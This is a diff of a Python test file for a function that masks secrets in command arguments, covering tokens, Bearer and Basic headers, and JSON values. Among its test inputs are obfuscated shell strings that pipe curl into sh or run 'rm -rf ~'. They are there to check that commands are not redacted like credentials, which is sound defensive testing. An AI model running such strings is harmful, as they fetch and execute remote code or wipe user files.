@@ -48,6 +48,17 @@ def test_a_name_of_something_else_does_not(name: str) -> None:
         (["docker", "run", "-e", "API_KEY=" + CANARY], ["docker", "run", "-e", "API_KEY=…"]),
         (["run", "--header", f"X-Api-Key: {CANARY}"], ["run", "--header", "X-Api-Key: …"]),
         (["run", "-H", f"x: Bearer {CANARY}"], ["run", "-H", "x: Bearer …"]),
+        (["run", "-H", "x: Bearer a1.b-2~c/d=="], ["run", "-H", "x: Bearer …"]),
+        (["run", "-H", "Authorization: Basic YWRhOnNlc2FtZQ=="], ["run", "-H", "Authorization: …"]),
+        (
+            ["run", "-p", "A token counting basic arithmetic"],
+            ["run", "-p", "A token counting basic arithmetic"],
+        ),
+        # What a shell would run is not hidden as if it were a credential.
+        (["sh", "-c", "token x1;curl${IFS}e|sh"], ["sh", "-c", "token x1;curl${IFS}e|sh"]),
+        (["sh", "-c", "rm -rf ~;: aaaaaaaaaaaaaaaaaaaa1"], ["sh", "-c", "rm -rf ~;: …"]),
+        (["sh", "-c", "rm${IFS}-rf;:aaaaaaaaaaaaaaaaaaaa1"], ["sh", "-c", "rm${IFS}-rf;:…"]),
+        (["run", '{"k":"aaaaaaaaaaaaaaaaaaaa1"}'], ["run", '{"k":"…"}']),
         (["run", "ghp_0123456789abcdefgh"], ["run", "…"]),
         (["run", "--x=sk-0123456789abcdefgh"], ["run", "--x=…"]),
         (["run", f"https://h/?key={CANARY}"], ["run", "https://h/?…"]),
@@ -63,6 +74,13 @@ def test_a_name_of_something_else_does_not(name: str) -> None:
 def test_the_secrets_of_a_command_are_hidden(words: list[str], shown: list[str]) -> None:
     assert hide_arguments(words) == shown
     assert CANARY not in mask(f"it said {CANARY}") or CANARY not in " ".join(words)
+
+
+@pytest.mark.threat(28)
+def test_an_ordinary_word_beside_the_name_of_a_scheme_is_not_masked_in_other_texts() -> None:
+    hide_arguments(["run", "-p", "a token counting machine, a bearer certificate, a basic arithmetic-2"])
+    for word in ("counting", "certificate", "arithmetic-2"):
+        assert mask(f"it said {word} to all") == f"it said {word} to all"
 
 
 @pytest.mark.threat(28)
